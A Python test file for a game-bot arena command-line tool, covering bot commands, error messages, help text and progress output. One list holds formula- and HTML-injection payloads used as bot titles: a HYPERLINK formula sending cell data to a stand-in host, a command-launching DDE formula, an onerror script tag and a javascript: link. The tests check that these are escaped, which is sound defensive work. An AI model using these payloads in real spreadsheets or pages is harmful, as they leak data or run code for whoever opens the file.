"""The program's commands but those that play leagues (`test_cli_leagues`, `test_cli_stops`): what they print, write and
refuse.
"""

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import typer
from typer.main import get_command
from typer.testing import CliRunner

from arena.__main__ import FIRST_STEPS, PANELS, Commands, app
from arena.cli import progress
from arena.cli.progress import Progress, duration, in_words, watching
from arena.cluster.local import Host
from arena.errors import StoreError
from arena.jail import zygote
from arena.jail.outcomes import HostError
from arena.store import Store
from tests.python import python

from .played import submitted
from .program import Arena


def test_versions_of_a_bot_are_shown_exported_and_retired(arena: Arena) -> None:
    for action in ("legal[0]", "legal[-1]"):
        arena.write("my_bot", f"def act(view):\n    return view.{action}\n")
        out = arena.run("bot", "submit", "my_bot.py", "--owner", "ada", "--note", f"plays {action}")[0]
        assert "flip7, 4 players: 17 games, " in out  # a short trial: no other tables and options
    assert "plays legal[0]" in arena.run("bot", "show", "my_bot@1")[0]
    assert arena.json("bot", "show", "my_bot")["owner"] == "ada"
    arena.run("bot", "export", "my_bot@1", "--out", "old")
    assert "legal[0]" in (arena.folder / "old" / "my_bot.py").read_text()
    assert "is there already" in arena.run("bot", "export", "my_bot@1", "--out", "old", code=2)[1]
    arena.run("bot", "retire", "my_bot")
    assert "my_bot" not in [row["bot"] for row in arena.json("bot", "show")]
    assert "`show` without a name lists" in arena.run("bot", "list", code=2)[1]


def test_only_tables_for_people_cut_a_bots_title_and_unknown_facts_are_left_out(arena: Arena) -> None:
    rows = list(
        csv.DictReader(io.StringIO(arena.run("bot", "show", "--game", "taroky", "--format", "csv")[0]))
    )
    title = next(row["title"] for row in rows if row["bot"] == "ismcts")
    assert len(title) > 80 and not title.endswith("...")
    assert next(row["games"] for row in rows if row["bot"] == "ismcts").count(";") >= 4
    shown = arena.run("bot", "show", "--game", "taroky")[0]
    assert title not in shown and title[:60] in shown
    assert "None" not in arena.run("db", "info")[0]  # no database yet: it has no size


SLY = [  # the title of a bot, the same as a cell of CSV, and a part of it in Markdown
    ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)', "=HYPERLINK("),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", r"-2+3+cmd\|' /C"),
    ("@SUM(1)", "'@SUM(1)", "@SUM(1)"),
    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", r"\<img src"),
    ("[go](javascript:x)", "[go](javascript:x)", r"\[go](javascript"),
    (r"a \| b", r"a \| b", r"a \\\| b"),
]


def test_no_text_of_a_stranger_is_a_formula_html_or_a_link(arena: Arena) -> None:
    for at, (title, *_) in enumerate(SLY):
        source = f"{title!r}\nGAMES = ['flip7']\n\n\ndef act(view):\n    return view.legal[0]\n"
        store = Store(str(arena.folder / "results" / "arena.db"), create=True)
        submitted(store, arena.folder / f"sly{at}.py", source, "ada", note=f"{title}\x9b\u202e")
    titles = {one["bot"].partition("@")[0]: one["title"] for one in csv_of(arena, "bot", "show")}
    shown = arena.run("bot", "show", "--format", "markdown")[0]
    for at, (_, cell, in_markdown) in enumerate(SLY):
        assert titles[f"sly{at}"] == cell and in_markdown in shown
        assert not {"\x9b", "\u202e"} & set(arena.run("bot", "show", f"sly{at}", "--format", "json")[0])


def csv_of(arena: Arena, *words: str) -> list[dict[str, str]]:
    """The rows of a table that a command prints."""
    return list(csv.DictReader(io.StringIO(arena.run(*words, "--format", "csv")[0])))


def test_traces_come_from_any_bots_and_replay(arena: Arena) -> None:
    arena.write("high", "def act(view):\n    return view.texts[-1]\n")
    words = ["trace", "flip7", "--players", "3", "--games", "3", "--seed", "9", "--option", "targeting=any"]
    record = arena.run(*words, "--bots", "random,./high.py,random")[0]
    assert record == arena.run(*words, "--bots", "random,./high.py,random")[0]
    (arena.folder / "games.jsonl").write_text(record)
    assert "3 games, no difference" in arena.run("trace", "--check", "games.jsonl")[0]
    (arena.folder / "games.jsonl").write_text(record.replace('"hit"', '"stay"', 1))
    assert "games.jsonl, line" in arena.run("trace", "--check", "games.jsonl", code=1)[1]


WRONG = [  # words, exit code, what stderr says
    (["league", "run", "flip8"], 2, "no league 'flip8'; did you mean flip7?"),
    (["league", "run", "flip7#1"], 2, "`arena league resume flip7#1` goes on"),
    (["league", "run", "flip7", "--bots", "random,./none.py"], 2, "none.py: no such file"),
    (["bot", "retire", "racer"], 2, "racer is a house bot"),
    (["league", "run", "flip7", "--bots", "randm,random"], 2, "no bot 'randm'; did you mean random?"),
    (["league", "run", "flip7", "--bots", "random"], 2, "1 entrant(s); two are needed"),
    (["league", "run", "flip7", "--deals", "0"], 2, "--deals"),
    (["league", "run", "flip7", "--players", "11"], 2, "flip7 is for 2 to 10 players, not 11"),
    (["league", "run", "flip7", "--option", "gaol=5"], 2, "no option 'gaol'; did you mean goal?"),
    (["league", "run", "flip7", "--deal", "5"], 2, "--deal"),
    (["league", "run", "flip7", "--level", "none"], 2, "level 'none': allowed is strict"),
    (["league", "run", "flip7", "--bots", ""], 2, "names nobody"),
    (["league", "run", "flip7", "--bots", "racer,,banker"], 2, "names nobody"),
    (["league", "run", "./taroky.toml"], 2, "taroky is a shipped league of taroky; give this file another"),
    (["league", "run", "limits.toml"], 2, "limits.toml, line 4: unknown key 'cpu'"),
    (["doctor", "--level", "none"], 2, "level 'none': allowed is strict"),
    (["league", "run", "flip7", "--db", "text.db"], 1, "text.db: this file is not a database"),
    (["league", "show", "--db", "nothing.db"], 1, "nothing.db holds no results; a league or a submitted bot"),
    (["league", "run", "flip7", "--db", "/proc/none/arena.db"], 1, "/proc/none"),
    (["league", "run", "flip7", "--address", ""], 1, "no Ray cluster at '': an address is HOST:PORT"),
    (["league", "run", "flip7", "--address", "localhost:65536"], 1, "an address is HOST:PORT"),
    (["league", "run", "flip7", "--address", "http://localhost:80"], 1, "an address is HOST:PORT"),
    (["league", "run", "flip7", "--address", "ray://localhost:1"], 1, "Ray's client cannot play a league"),
    (["league", "show", "taroky#9"], 2, "no run 'taroky#9'"),
    (["ratings", "chess"], 2, "no game 'chess'"),
    (["trace", "flip8"], 2, "no game 'flip8'; did you mean flip7?"),
    (["trace", "flip7", "--option", "goal=0"], 2, "option goal = 0: allowed is 1 to 10000"),
    (["trace", "flip7", "--bots", "random,random"], 2, "names 2 bots, the table has 4 seats"),
    (["trace", "--check", "none.jsonl"], 2, "none.jsonl: cannot be read: No such file"),
    (["ladder", "new", "none.toml"], 2, "none.toml: cannot be read: No such file"),
    (["trace"], 2, "say which game"),
    (["bot", "new", "random", "--game", "flip7"], 2, "name of a house bot"),
    (["bot", "new", "My-Bot", "--game", "flip7"], 2, "small letters"),
    (["bot", "new", "mine", "--game", "flip8"], 2, "did you mean flip7?"),
    (["bot", "check", "syntax.py"], 1, "syntax.py, line 3: syntax error"),
    (["bot", "check", "empty.py"], 1, "empty.py: a bot needs a function `act(view)`"),
    (["bot", "submit", "other.py"], 1, "other.py, line 3: no game 'chess'"),
    (["bot", "submit", "fails.py"], 1, "no_such_module"),
    (["bot", "check", "none.py"], 2, "none.py: no such file"),
    (["frobnicate"], 2, "frobnicate"),
]


def wrong_files(arena: Arena) -> None:
    """The files that the wrong calls name."""
    (arena.folder / "limits.toml").write_text('game = "flip7"\nentrants = ["random"]\n[limits]\ncpu = 5\n')
    (arena.folder / "taroky.toml").write_text('game = "flip7"\n')
    (arena.folder / "text.db").write_text("no database at all, but long enough to be looked at" * 50)
    (arena.folder / "syntax.py").write_text('GAMES = ["flip7"]\n\ndef act(view)\n    pass\n')
    (arena.folder / "empty.py").write_text('GAMES = ["flip7"]\n')
    arena.write("other", "def act(view):\n    return 0\n", '["chess"]')
    (arena.folder / "nothing.db").touch()
    arena.write("fails", "import no_such_module\n\ndef act(view):\n    return 0\n")


@pytest.mark.parametrize("words, code, message", WRONG, ids=[" ".join(words) for words, _, _ in WRONG])
def test_a_wrong_call_is_one_clear_line_and_leaves_nothing_behind(
    arena: Arena, words: list[str], code: int, message: str
) -> None:
    wrong_files(arena)
    out, err = arena.run(*words, code=code)
    assert message in err
    if "fails.py" not in words:  # a bot's own traceback is shown
        assert "Traceback" not in err and out == ""
    assert not (arena.folder / "results").exists() or words[1] == "run"


@pytest.mark.parametrize(
    "words, code, message", [row for row in WRONG if row[0][-1] in ("frobnicate", "text.db")]
)
def test_a_process_that_was_called_wrongly_ends_with_one_line_and_its_code(
    arena: Arena, words: list[str], code: int, message: str
) -> None:
    wrong_files(arena)
    out, err = arena.process(*words, code=code)
    assert message in err and "Traceback" not in err and out == ""


def test_every_command_is_in_one_panel_of_the_help(arena: Arena) -> None:
    shown = arena.run("--help")[0]
    commands = get_command(app).commands
    assert sorted(name for names in PANELS.values() for name in names) == sorted(commands)
    for panel, names in PANELS.items():
        lines = shown.partition(f"{panel}:\n")[2].split("\n\n")[0].splitlines()
        assert tuple(line.split()[0] for line in lines) == names


@pytest.mark.parametrize("columns", [60, 80, 120])
@pytest.mark.parametrize("group", [[], ["bot"], ["league"], ["db"]])
def test_help_of_groups_has_whole_sentences_at_any_width(group: list[str], columns: int) -> None:
    shown = CliRunner().invoke(app, [*group, "--help"], terminal_width=columns, prog_name="arena").stdout
    lines = shown.splitlines()[1:]
    assert max(map(len, lines)) <= columns and not [line for line in lines if line.endswith("...")]
    command = get_command(app)
    for name in group:
        command = command.commands[name]
    text = " ".join(" ".join(lines).split())
    for name, one in command.commands.items():
        first = " ".join(one.help.partition("\n\n")[0].split()).split(". ")[0].rstrip(".")
        assert f"{name} {first}" in text


def test_arena_in_a_fresh_folder_says_what_to_do_first_and_later_shows_its_help(arena: Arena) -> None:
    assert "First steps" in arena.run()[0]
    for line in re.findall(r"^ {4}arena (.*?) *#", FIRST_STEPS, re.MULTILINE):
        command = get_command(app)
        for word in line.split():
            command = command.commands.get(word, command) if hasattr(command, "commands") else command
        assert not hasattr(command, "commands")
    arena.write("mine", "def act(view):\n    return 0\n")
    assert "For authors of bots" in "".join(arena.run(code=2))


def test_an_address_where_no_cluster_is_leaves_no_run_behind(arena: Arena) -> None:
    for line in ("league run flip7 --deals 2", "compare racer banker --game flip7"):
        words = line.split()
        assert "no Ray cluster at 127.0.0.1:9" in arena.run(*words, "--address", "127.0.0.1:9", code=1)[1]
    assert Store(str(arena.folder / "results" / "arena.db")).runs.all() == []


def test_help_starts_in_a_moment(arena: Arena) -> None:
    assert "bot" in arena.process("--help")[0]
    assert heavy_modules_after("import arena.__main__") == "[]"


def test_a_goal_that_is_none_is_refused_before_a_game_is_loaded() -> None:
    wrong = ["league", "run", "flip7", "--until", "bset,4h"]
    called = (
        "from typer.testing import CliRunner; from arena.__main__ import app; "
        f"done = CliRunner().invoke(app, {wrong}); assert done.exit_code == 2 and \"until = 'bset'\" in done.stderr"
    )
    assert heavy_modules_after(called) == "[]"


def heavy_modules_after(code: str) -> str:
    """Which libraries that take long to import some code has loaded, as a process prints them."""
    told = "print([m for m in ('ray', 'numba', 'numpy', 'sqlmodel', 'rich') if m in sys.modules])"
    return python("-c", f"import sys; {code}; {told}", check=True).stdout.strip()


def test_an_error_that_comes_of_ctrl_c_is_a_stop() -> None:
    program = typer.Typer(cls=Commands)

    @program.callback()
    def nothing() -> None:
        pass

    @program.command()
    def stores() -> None:
        try:
            raise KeyboardInterrupt
        finally:
            raise StoreError("the transaction is closed")

    done = CliRunner().invoke(program, ["stores"])
    assert done.exit_code == 130 and done.stderr == "arena: stopped\n"


def test_output_that_cannot_be_written_is_told_in_a_line_and_closed_output_is_no_error(arena: Arena) -> None:
    program = f"{sys.executable} -m arena games"
    words = {"cwd": arena.folder, "shell": True, "capture_output": True, "text": True, "timeout": 300}
    for command in (program, f"{program} --format json"):
        full: Any = subprocess.run(f"{command} > /dev/full", check=False, **words)
        assert full.returncode == 1 and full.stderr.splitlines()[-1].startswith(
            "arena: the output cannot be written: No space left on device"
        )
        assert "Traceback" not in full.stderr
    closed: Any = subprocess.run(f"{program} >&-", check=False, **words)
    assert closed.returncode == 0 and closed.stderr == ""
    for nobody in ("2>&-", "2>/dev/full"):  # notes that nobody can hear
        unheard: Any = subprocess.run(
            f"{program} -v --format json --db other.db {nobody}", check=False, **words
        )
        assert unheard.returncode == 0 and json.loads(unheard.stdout)  # and no notes among it


def test_what_a_terminal_has_no_sign_for_is_replaced(arena: Arena) -> None:
    plain = os.environ | {"PYTHONIOENCODING": "ascii"}
    done = python("-m", "arena", "games", "zoliky", "--rules", env=plain)
    assert done.returncode == 0 and "# Jolly ?ol?ky" in done.stdout and done.stderr == ""


@pytest.mark.parametrize("words", [["doctor"], ["league", "run", "flip7", "--deals", "1"]])
def test_too_few_open_files_are_told_with_what_to_do(arena: Arena, words: list[str]) -> None:
    few = ["bash", "-c", 'ulimit -n 64; exec "$@"', "bash", sys.executable, "-m", "arena", *words]
    done = subprocess.run(few, cwd=arena.folder, capture_output=True, text=True, check=False, timeout=300)
    told = "arena: a process may open only 64 files here: allow more, as by ulimit -n 1024\n"
    assert (done.returncode, done.stdout) == (5, "") and done.stderr.endswith(told)


def test_a_python_that_the_user_may_not_run_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (place := tmp_path / "python").touch()
    monkeypatch.setattr(sys, "executable", str(place))
    for start in (lambda: Host(1), lambda: zygote.Server("none", [])):
        with pytest.raises(HostError, match=f"{place}: this user may not run it: have Python and"):
            start()


def test_a_game_shows_its_options_and_its_rules_page(arena: Arena) -> None:
    out, err = arena.run("games", "julepe")
    assert re.search(r"^nobody_safe +carry +carry or pay +five players", out, re.MULTILINE)
    assert "5 players" in err and "arena games julepe --rules" in err
    page, _ = arena.run("games", "julepe", "--rules")
    assert page.startswith("# Julepe\n") and "## 7 Actions" in page and "<!--" not in page
    assert "say which game" in arena.run("games", "--rules", code=2)[1]
    assert "did you mean julepe?" in arena.run("games", "julep", code=2)[1]


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """The time, which stands still unless a test moves it."""
    now = [1000.0]
    monkeypatch.setattr(progress, "time", SimpleNamespace(monotonic=lambda: now[0]))
    return now


def test_json_lines_have_games_matches_speed_nodes_and_what_is_left(
    clock: list[float], capsys: pytest.CaptureFixture[str]
) -> None:
    with watching(Progress.JSON)(100, 20, "games") as add:
        clock[0] += 5
        add(10, matches=3, matches_planned=10, nodes=2, repeated=0)  # the first is told at once
        clock[0] += 1
        add(10, matches=4, matches_planned=10, nodes=2, repeated=1)  # too early for the next line
        clock[0] += 4
        add(10, matches=5, matches_planned=10, nodes=3, repeated=1)
    out, err = capsys.readouterr()
    first, last = [json.loads(line) for line in err.splitlines()]  # no state is told twice
    assert out == ""
    assert first == {
        "games": 30, "games_planned": 100, "games_per_s": 2.0, "seconds_left": 35,
        "matches": 3, "matches_planned": 10, "nodes": 2, "repeated": 0,
    }  # fmt: skip
    assert last == {
        "games": 50, "games_planned": 100, "games_per_s": 3.0, "seconds_left": 17,
        "matches": 5, "matches_planned": 10, "nodes": 3, "repeated": 1,
    }  # fmt: skip


def test_plain_lines_come_every_half_minute_and_where_there_is_no_terminal(
    clock: list[float], capsys: pytest.CaptureFixture[str]
) -> None:
    with watching(Progress.AUTO)(1000, 0, "games") as add:  # pytest's stderr is no terminal
        for _ in range(7):
            clock[0] += 10
            add(64, nodes=1)
    assert capsys.readouterr().err.splitlines() == [
        "64 of 1000 games, 6.4 games/s, 1 node, 2 min 26 s left",
        "320 of 1000 games, 6.4 games/s, 1 node, 1 min 46 s left",
        "448 of 1000 games, 6.4 games/s, 1 node, 1 min 26 s left",
    ]


def test_nothing_is_said_on_request_and_where_nothing_is_played(capsys: pytest.CaptureFixture[str]) -> None:
    with watching(Progress.NONE)(10, 0, "games") as add:
        add(10, matches=1, nodes=1, repeated=0)
    with watching(Progress.PLAIN)(10, 10, "games"):
        pass
    assert capsys.readouterr() == ("", "")


def test_a_line_for_people_leaves_out_what_is_not_known() -> None:
    facts = {"games": 5, "games_planned": 9, "games_per_s": 0.0, "seconds_left": None, "may_end_sooner": 1}
    assert in_words(facts, "games") == "5 of 9 games, 0.0 games/min, time left unknown"
    assert in_words(facts | {"games_per_s": 0.05}, "games").startswith("5 of 9 games, 3.0 games/min, ")
    facts |= {"matches": 1, "matches_planned": 2, "nodes": 2, "repeated": 3, "seconds_left": 0}
    assert in_words(facts, "games") == (
        "5 of 9 games, 1 of 2 matches, 0.0 games/min, 2 nodes, 3 called off and played again, at most 0 s left"
    )


@pytest.mark.parametrize(
    "seconds, text",
    [(0.4, "0 s"), (59, "59 s"), (60, "1 min"), (61, "1 min 1 s"), (3600, "1 h"), (3661, "1 h 1 min"),
     (86400 + 7200 + 60, "1 d 2 h")],
)  # fmt: skip
def test_times_are_told_in_their_two_largest_units(seconds: float, text: str) -> None:
    assert duration(seconds) == text
